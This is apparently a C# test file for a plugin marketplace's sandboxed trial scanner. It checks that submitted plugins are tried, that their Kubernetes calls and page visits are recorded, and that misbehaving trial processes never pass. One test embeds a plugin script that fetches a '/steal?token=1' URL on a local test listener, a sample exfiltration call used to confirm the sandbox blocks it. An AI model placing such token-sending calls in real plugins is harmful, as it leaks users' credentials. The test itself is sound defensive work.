using System.Net;
using System.Net.Sockets;
using LazyOC.Marketplace.Protocol.Api;
using LazyOC.Marketplace.Scanning;
using LazyOC.Marketplace.Scanning.Trials;
using LazyOC.Plugins.Contracts.Versions;
using static LazyOC.Marketplace.Tests.MarketFixture;

namespace LazyOC.Marketplace.Tests.Scanning.Trials;

/// <summary>Plugins are tried for real, in the process that the marketplace tries them in.</summary>
public sealed class TrialScannerTests
{
    private const string ReadsPods = """{"kubernetes":[{"apiGroups":[""],"resources":["pods"],"verbs":["get","list"]}]}""";

    private const string ListsPods = """lazyoc.on("activate", async () => { await lazyoc.call("kubernetes.list", { group: "", resource: "pods", namespace: "bookstore" }); });""";

    private readonly TrialScanner _scanner = new(TrialFixture.Scanning);

    [Fact]
    public async Task Scan_OfPluginThatDoesNothing_FindsNothing()
    {
        var result = await _scanner.ScanAsync(PackageFixture.Clean);

        Assert.Equal(Verdict.Pass, result.Verdict);
        Assert.DoesNotContain(result.Findings, finding => finding.Rule != "trial-loose");
        Assert.NotNull(result.Behaviour);
        Assert.Empty(result.Behaviour.Calls);
    }

    [Fact]
    public async Task Scan_OfPluginThatDoesWhatItAsksFor_TellsWhatItDid()
    {
        var result = await _scanner.ScanAsync(PackageFixture.Script(ListsPods, ReadsPods));

        Assert.Equal(Verdict.Pass, result.Verdict);
        result.Free("trial-unused");
        Assert.Equal(new ObservedCall("kubernetes.list", "pods in bookstore", "done", 1), Assert.Single(result.Behaviour!.Calls));
    }

    [Fact]
    public async Task Scan_OfCallWithoutPermission_Holds()
    {
        var result = await _scanner.ScanAsync(PackageFixture.Script(ListsPods.Replace("await", "try { await", StringComparison.Ordinal).Replace("}); });", "}); } catch {} });", StringComparison.Ordinal)));

        Assert.Contains("kubernetes.list", result.Caught("trial-refused").Message, StringComparison.Ordinal);
        Assert.Equal("refused", Assert.Single(result.Behaviour!.Calls).Outcome);
    }

    [Fact]
    public async Task Scan_OfPluginThatCannotBeActivated_Holds() =>
        Assert.Contains("no weather today", (await _scanner.ScanAsync(PackageFixture.Script("""lazyoc.on("activate", () => { throw new Error("no weather today"); });"""))).Caught("trial-activation").Message, StringComparison.Ordinal);

    [Fact]
    public async Task Scan_OfPermissionThatNothingUses_NotesIt() =>
        Assert.Contains("permissions.kubernetes", (await _scanner.ScanAsync(PackageFixture.Clean with { Permissions = ReadsPods })).Caught("trial-unused").Message, StringComparison.Ordinal);

    /// <summary>Pages are opened and their buttons pressed, commands and actions started, with the user's gesture.</summary>
    [Fact]
    public async Task Scan_OfContributions_VisitsThemAll()
    {
        var package = SamplePlugin.Package(
            permissions: """{"kubernetes":[{"apiGroups":[""],"resources":["pods"],"verbs":["delete"]}]}""",
            more: """
                ,"activation":["onPage:acme.demo.page","onCommand:acme.demo.go","onAction:acme.demo.drop"],"contributes":{
                "pages":[{"id":"acme.demo.page","title":"Page"}],"commands":[{"id":"acme.demo.go","title":"Go"}],
                "actions":[{"id":"acme.demo.drop","title":"Drop","resources":["Pod"]}]}
                """,
            code: """
                lazyoc.on("render", () => ({ type: "button", id: "more", label: "More" }));
                lazyoc.on("input", async () => { await lazyoc.call("log.write", { level: "info", message: "pressed" }); return null; });
                lazyoc.on("command", () => { throw new Error("it rains"); });
                lazyoc.on("action", async (payload, message) => { const pod = payload.objects[0]; await lazyoc.call("kubernetes.delete", { group: "", resource: "pods", namespace: pod.namespace, name: pod.name }, message.gesture); });
                """);

        var result = await _scanner.ScanAsync(package.Submit(), CancellationToken.None);

        Assert.Contains("it rains", result.Caught("trial-fault").Message, StringComparison.Ordinal);
        Assert.Equal(["page", "command", "action"], result.Behaviour!.Visits.Select(visit => visit.Kind));
        Assert.Equal([null, "threw", null], result.Behaviour.Visits.Select(visit => visit.Failure?.Split(':')[0]));
        Assert.Contains(result.Behaviour.Calls, call => call is { Call: "log.write", Outcome: "done" });
        Assert.Contains(result.Behaviour.Calls, call => call is { Call: "kubernetes.delete", Target: "pods/* in bookstore", Outcome: "done", Count: 1 });
    }

    /// <summary>With the permission for it and in a sandbox that would let it, nothing listens; without the layers that see to it, the server of the test is reached.</summary>
    [ConfinedTheory]
    [InlineData(false)]
    [InlineData(true, TrialLayers.Network, TrialLayers.Calls)]
    public async Task Scan_OfPluginThatAsksAServer_TellsSoAndReachesNone(bool isReached, params string[] without)
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var origin = $"http://127.0.0.1:{((IPEndPoint)listener.LocalEndpoint).Port}";
        var scanner = new TrialScanner(new ScannerOptions { Trial = TrialFixture.Options.Without([.. without]) });

        var result = await scanner.ScanAsync(PackageFixture.Script(
            $$"""lazyoc.on("activate", async () => { try { await lazyoc.call("http.fetch", { url: "{{origin}}/steal?token=1", timeoutMs: 2000 }); } catch {} });""",
            $$"""{ "network": { "connect": ["{{origin}}"] } }"""));

        Assert.Contains(origin, result.Caught("trial-server").Message, StringComparison.Ordinal);
        Assert.Equal([origin], result.Behaviour!.Servers.ToArray());
        Assert.Equal(isReached, listener.Pending());
    }

    /// <summary>Whatever the process does, no verdict comes of it that lets a version go live.</summary>
    [Theory]
    [InlineData("flood", "trial-unreadable")]
    [InlineData("garbage", "trial-unreadable")]
    [InlineData("lie", "trial-unreadable")]
    [InlineData("nothing", "trial-unreadable")]
    [InlineData("hang", "trial-late")]
    public async Task Scan_OfProcessThatMisbehaves_DoesNotPass(string how, string rule)
    {
        var scanner = new TrialScanner(new ScannerOptions { Trial = TrialFixture.Running("misbehave", how) with { Time = how == "hang" ? TimeSpan.FromSeconds(10) : TrialFixture.Options.Time } });

        var result = await scanner.ScanAsync(PackageFixture.Clean);

        result.Caught(rule);
        Assert.Null(result.Behaviour);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Version_WhoseTrialCrashesOrIsNotThere_IsHeld(bool isThere)
    {
        var trial = isThere ? TrialFixture.Running("misbehave", "crash") : TrialFixture.Options with { Program = "/nowhere/lazyoc-trial.dll" };
        await using var market = await MarketFixture.StartAsync(new TrialScanner(new ScannerOptions { Trial = trial }));
        var owner = await market.OwnerAsync();

        var submission = await market.SettleAsync(owner, SamplePlugin.Package());

        Assert.Equal(VersionState.Held, submission.State);
        Assert.Equal(["the scanner `trial` failed"], submission.Reasons.ToArray());
        Assert.DoesNotContain("nowhere", submission.Scans[0].Findings[0].Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Behaviour_OfVersionThatWasTried_IsShownBesideItsPermissions()
    {
        await using var market = await MarketFixture.StartAsync(_scanner);
        var owner = await market.OwnerAsync();
        var package = await market.LiveAsync(owner, SamplePlugin.Package(code: ListsPods, permissions: ReadsPods, more: ",\"activation\":[\"onStartup\"]"));

        var behaviour = Value(await market.Client().BehaviourAsync(package.Manifest.Id, package.Manifest.Version, default));
        var page = await market.Http.GetStringAsync(new Uri(market.Url, "plugins/acme.demo"));

        Assert.Equal("kubernetes.list", Assert.Single(behaviour.Calls).Call);
        Assert.Contains("What it did when it was tried", page, StringComparison.Ordinal);
        Assert.Contains("pods in bookstore", page, StringComparison.Ordinal);
        Refusal(ProblemTypes.NotFound, await market.Client().BehaviourAsync(package.Manifest.Id, SemanticVersion.Parse("9.9.9"), default));
    }

    /// <summary>What a version that is not public did is nobody's business but its publisher's.</summary>
    [Fact]
    public async Task Behaviour_OfVersionThatIsHeld_IsNotShown()
    {
        await using var market = await MarketFixture.StartAsync(_scanner, TestScanner.Of("holding", Verdict.Hold));
        var owner = await market.OwnerAsync();
        var package = SamplePlugin.Package();

        Assert.Equal(VersionState.Held, (await market.SettleAsync(owner, package)).State);

        Refusal(ProblemTypes.NotFound, await market.Client().BehaviourAsync(package.Manifest.Id, package.Manifest.Version, default));
    }
}
